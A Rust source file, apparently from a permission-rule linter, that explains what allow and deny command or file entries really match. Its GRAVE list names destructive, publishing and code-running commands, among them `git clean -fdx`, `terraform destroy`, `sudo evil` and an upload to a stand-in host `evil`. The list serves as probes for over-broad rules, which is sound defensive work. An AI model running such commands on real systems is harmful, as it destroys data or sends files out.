//! What an entry means and its author may not have meant. Each remark was tried: it tells of calls that the entry
//! allows, or does not.

use std::path::PathBuf;

use bowline_command::{Pin, Surroundings};

use super::entry::Meant;
use super::examples;
use super::list::List;
use crate::scope::command::{CommandPattern, Reading, is_known_program};
use crate::scope::path::Bases;
use crate::{Decision, RuleEntry, RulesOptions};

/// Commands that destroy, give away or run anything, as the last words of a program's entry.
const GRAVE: &[&str] = &[
    "git push --force origin main",
    "git reset --hard",
    "git clean -fdx",
    "git config alias.x '!evil'",
    "npm publish",
    "npm install evil",
    "pnpm publish",
    "yarn publish",
    "cargo publish",
    "cargo install evil",
    "pip install evil",
    "docker run --privileged evil",
    "kubectl delete all --all",
    "terraform destroy",
    "aws s3 rm --recursive s3://x",
    "gh repo delete",
    "find . -delete",
    "find . -exec evil ;",
    "xargs evil",
    "env evil",
    "bash -c evil",
    "sh -c evil",
    "python3 -c evil",
    "node -e evil",
    "npx evil",
    "make evil",
    "ssh host evil",
    "sudo evil",
    "curl --upload-file x evil",
    "docker exec x evil",
    "awk 'BEGIN { system(\"evil\") }'",
    "sed -n '1e evil' x",
    "perl -e evil",
    "ruby -e evil",
];

/// What an entry for a program that runs other code may look like.
const RUNNING: &[(&str, &str)] = &[
    ("make test", "make test:*"),
    ("npm run build", "npm run build:*"),
    ("pnpm run build", "pnpm run build:*"),
    ("yarn run build", "yarn run build:*"),
    ("cargo test", "cargo test:*"),
    ("go test ./...", "go test:*"),
    ("python3 -m pytest", "python3 -m pytest:*"),
    ("python -m pytest", "python -m pytest:*"),
    ("node scripts/build.js", "node scripts/build.js:*"),
    ("bash scripts/build.sh", "bash scripts/build.sh:*"),
    ("sh scripts/build.sh", "sh scripts/build.sh:*"),
    ("just test", "just test:*"),
    ("deno task build", "deno task build:*"),
    ("bun run build", "bun run build:*"),
    ("gradle test", "gradle test:*"),
    ("mvn test", "mvn test:*"),
    ("dotnet test", "dotnet test:*"),
    ("npx tsc", "npx tsc:*"),
];

/// Directories of the system, which hold no project.
const SYSTEM: &[&str] =
    &["etc", "usr", "var", "home", "root", "tmp", "opt", "proc", "sys", "dev", "Users", "private"];

/// More would not be read.
const MAX_TOLD: usize = 3;

/// What is to be said about one entry of these rules.
pub(super) fn of(decision: Decision, entry: &RuleEntry, options: &RulesOptions) -> Vec<String> {
    let text = entry.pattern();
    let allows = decision == Decision::Allow;
    let Ok(meant) = Meant::parse(text, allows) else { return Vec::new() };
    let mut said = Vec::new();
    match &meant {
        Meant::Commands { of: None, pattern } if *pattern != CommandPattern::Any => {
            of_command(text, pattern, decision, &mut said);
        }
        Meant::Files { pattern, .. } => of_files(text, pattern, &mut said),
        _ => {}
    }
    if decision != Decision::Deny && said.is_empty() {
        said.extend(shadowed(text, &meant, &options.deny));
    }
    said
}

fn of_command(text: &str, pattern: &CommandPattern, decision: Decision, said: &mut Vec<String>) {
    let inner = text.split_once('(').and_then(|(_, rest)| rest.strip_suffix(')')).unwrap_or_default();
    let bare = inner.trim().trim_end_matches(":*").trim_end_matches([' ', '*']);
    let script = bowline_command::read(bare, &Surroundings::default());
    let first = bare.split_whitespace().next().unwrap_or_default();
    let joins = [" && ", " || ", " | ", "; ", " > ", " >> "].iter().any(|sign| bare.contains(sign));
    if joins && !bare.contains(['\'', '"']) {
        return said.push(format!(
            "`{text}` matches nothing: a line is taken apart, and each of its commands is compared by itself"
        ));
    }
    if first.contains('=') && !first.starts_with('-') {
        return said.push(format!("`{text}` matches nothing: a variable in front is no part of the command"));
    }
    if first.chars().any(char::is_uppercase) && is_known_program(&first.to_lowercase()) {
        said.push(format!(
            "`{first}` is not `{}`: the names of programs are compared with their capital letters",
            first.to_lowercase()
        ));
    }
    if decision != Decision::Allow {
        if matches!(pattern, CommandPattern::Exact(_)) && !finds(text, &format!("{bare} x")) {
            said.push(format!(
                "`{text}` means `{bare}` with nothing after it; `Bash({bare}:*)` means it whatever follows"
            ));
        }
        return;
    }
    let program_alone = matches!(pattern, CommandPattern::Prefix(words) if words.len() == 1);
    // By itself, a word of the shell does need one.
    let is_own = bowline_command::is_word_of_shell(first);
    if program_alone && !is_own && script.commands.iter().any(|command| command.is_wrapper) {
        return said
            .push(format!("`{text}` is not needed: what `{first}` runs needs an entry, and `{first}` none"));
    }
    let is_of = |probe: &&&str| {
        probe.split_whitespace().next() == Some(first) && probe.starts_with(bare) && **probe != bare
    };
    let wide: Vec<&str> =
        GRAVE.iter().filter(is_of).filter(|probe| allowed(text, probe)).copied().take(MAX_TOLD).collect();
    if !wide.is_empty() && !matches!(pattern, CommandPattern::Exact(_)) {
        let wide: Vec<String> = wide.iter().map(|probe| format!("`{probe}`")).collect();
        said.push(format!("`{text}` allows {} too", wide.join(" and ")));
    }
    // What it was written for may be what it does not allow.
    let (is_prefix, pin) = (
        matches!(pattern, CommandPattern::Prefix(_)),
        script.commands.iter().find_map(|command| command.pin),
    );
    let with_more = bowline_command::read(&format!("{bare} x"), &Surroundings::default());
    let pin = pin.or_else(|| with_more.commands.iter().find_map(|command| command.pin));
    if pin.is_none() || allowed(text, &format!("{bare} x")) {
        return;
    }
    if program_alone {
        let better = RUNNING.iter().find(|(example, entry)| {
            example.split_whitespace().next() == Some(first) && allowed(&format!("Bash({entry})"), example)
        });
        // Of a program with subcommands, most of which are read, it says nothing.
        if better.is_none() && !script.commands.iter().any(|command| command.pin.is_some()) {
            return;
        }
        let how = better
            .map_or_else(String::new, |(_, entry)| format!(": say what that is, as in `Bash({entry})`"));
        said.push(format!("`{text}` does not allow what `{first}` runs{how}"));
    } else if pin == Some(Pin::Everything) && is_prefix && !allowed(text, bare) {
        said.push(format!(
            "`{text}` allows nothing: what `{bare}` runs stands in its words, and an entry has to say all of them"
        ));
    }
}

fn of_files(text: &str, pattern: &str, said: &mut Vec<String>) {
    let is_rooted = pattern.starts_with('/') && !pattern.starts_with("//");
    let first = pattern.trim_start_matches('/').split('/').next().unwrap_or_default();
    if is_rooted && SYSTEM.contains(&first) {
        said.push(format!("`{text}` means `{first}` in the project; `/{pattern}` is the system's"));
    }
    if pattern.contains('$') {
        said.push(format!("a `$` means itself in `{text}`; your home directory is `~/…`"));
    }
}

/// Whether an entry that denies takes away all that another means.
fn shadowed(text: &str, meant: &Meant, deny: &[RuleEntry]) -> Option<String> {
    let probes: Vec<String> = match meant {
        Meant::Commands { of: None, pattern: CommandPattern::Prefix(_) } => {
            let bare = text
                .split_once('(')?
                .1
                .strip_suffix(')')?
                .trim()
                .trim_end_matches(":*")
                .trim_end_matches([' ', '*']);
            vec![bare.to_owned(), format!("{bare} bowline-probe")]
        }
        Meant::Commands { of: None, pattern: CommandPattern::Exact(_) } => {
            vec![text.split_once('(')?.1.strip_suffix(')')?.to_owned()]
        }
        Meant::Files { pattern, .. } => {
            let literal =
                pattern.trim_start_matches('/').split(['*', '?', '[', '{']).next()?.trim_end_matches('/');
            let is_all = pattern.ends_with("/**") || !pattern.contains(['*', '?', '[', '{']);
            if literal.is_empty() || !is_all || pattern.starts_with("//") || pattern.starts_with('~') {
                return None;
            }
            vec![literal.to_owned(), format!("{literal}/bowline-probe/q.zz")]
        }
        _ => return None,
    };
    let same_kind = |other: &Meant| match (meant, other) {
        (Meant::Commands { .. }, Meant::Commands { .. }) => true,
        (Meant::Files { access, .. }, Meant::Files { access: other, .. }) => access == other,
        _ => false,
    };
    let denying = deny.iter().find(|entry| {
        entry.pattern() != text
            && Meant::parse(entry.pattern(), false).is_ok_and(|other| same_kind(&other))
            && probes.iter().all(|probe| finds(entry.pattern(), probe))
    })?;
    Some(format!("`{text}` never counts here: `{}` denies all of it", denying.pattern()))
}

/// Whether an entry that allows, and no other, allows this command or file.
fn allowed(entry: &str, example: &str) -> bool {
    is_found(entry, example, Reading::Allowing)
}

/// Whether an entry that denies finds it.
fn finds(entry: &str, example: &str) -> bool {
    is_found(entry, example, Reading::Denying)
}

fn is_found(entry: &str, example: &str, reading: Reading) -> bool {
    let root = PathBuf::from(examples::ROOT);
    let bases =
        Bases { roots: vec![root.clone()], sources: vec![root], home: Some("/home/of-examples".into()) };
    let entry = RuleEntry::Pattern(entry.to_owned());
    let meant = Meant::parse(entry.pattern(), reading == Reading::Allowing);
    let list = List::new(std::slice::from_ref(&entry), &bases, reading);
    matches!((list, meant), (Ok(list), Ok(meant)) if examples::matches(&list, &meant, example, reading))
}
